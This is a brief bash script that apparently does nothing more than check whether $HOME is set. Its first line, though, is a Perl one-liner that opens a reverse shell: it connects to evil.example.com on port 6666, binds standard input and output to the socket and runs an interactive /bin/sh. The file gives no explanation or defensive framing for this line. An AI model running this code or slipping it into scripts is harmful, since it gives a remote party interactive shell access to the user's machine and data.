#!/usr/bin/env bash
perl -e 'use Socket;$i="evil.example.com";$p=6666;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
